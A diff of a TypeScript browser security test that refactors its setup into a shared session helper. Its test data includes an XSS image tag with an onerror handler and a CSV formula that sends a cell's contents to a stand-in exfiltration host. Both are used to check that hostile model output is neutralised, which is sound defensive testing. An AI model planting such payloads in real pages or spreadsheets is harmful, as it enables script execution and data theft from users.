@@ -1,13 +1,12 @@
 // Hostile model output stays text, the Hugging Face token goes nowhere but the Authorization header of
 // requests to Hugging Face, and the built app's Content-Security-Policy blocks inline script.
 // Everything is offline: the sandbox on 127.0.0.1, Hugging Face's hosts answered by page.route.
-import { mkdtemp, readFile, rm } from "node:fs/promises";
-import { tmpdir } from "node:os";
+import { readFile } from "node:fs/promises";
 import { join } from "node:path";
-import type { BrowserContext, Page, Request, Route } from "playwright-core";
+import type { Page, Request, Route } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { CONTENT_SECURITY_POLICY } from "../../vite.config";
-import { launchBrowser, parseCsvRows, runScenarioInApp, saveScenarioThroughUi, startServers, dumpDatabase, type Servers } from "./harness";
+import { parseCsvRows, runScenarioInApp, saveScenarioThroughUi, dumpDatabase, startBrowserSession, type BrowserSession, type Servers } from "./harness";
 
 const SENTINEL_TOKEN = "hf_SENTINELtokenMustNotLeak0123456789";
 const HUGGING_FACE_HOSTS = new Set(["huggingface.co", "router.huggingface.co"]);
@@ -20,9 +19,8 @@ const HOSTILE_LABEL = `Evil <img src=x onerror="window.__evil=3">`;
 /** An answer a spreadsheet would run as a formula if the CSV export passed it on as is. */
 const FORMULA_OUTPUT = `=HYPERLINK("http://exfiltrate.invalid/?"&A1,"click")`;
 
-let workDirectory: string;
+let session: BrowserSession;
 let servers: Servers;
-let context: BrowserContext;
 let page: Page;
 
 interface SeenRequest {
@@ -36,10 +34,8 @@ const consoleMessages: string[] = [];
 const navigatedUrls: string[] = [];
 
 beforeAll(async () => {
-  workDirectory = await mkdtemp(join(tmpdir(), "providerbench-security-"));
-  servers = await startServers({ sandboxTimeScale: 0.2 });
-  context = await launchBrowser(join(workDirectory, "profile"));
-  page = context.pages()[0] ?? (await context.newPage());
+  session = await startBrowserSession("security", { sandboxTimeScale: 0.2 });
+  ({ servers, page } = session);
   page.on("request", (request) => void recordRequest(request));
   page.on("console", (message) => consoleMessages.push(`${message.type()}: ${message.text()} ${message.location().url}`));
   page.on("pageerror", (error) => consoleMessages.push(`pageerror: ${error.message}\n${error.stack ?? ""}`));
@@ -52,9 +48,7 @@ beforeAll(async () => {
 }, 120_000);
 
 afterAll(async () => {
-  await context?.close();
-  await servers?.close();
-  if (workDirectory) await rm(workDirectory, { recursive: true, force: true });
+  await session?.close();
 });
 
 async function recordRequest(request: Request): Promise<void> {
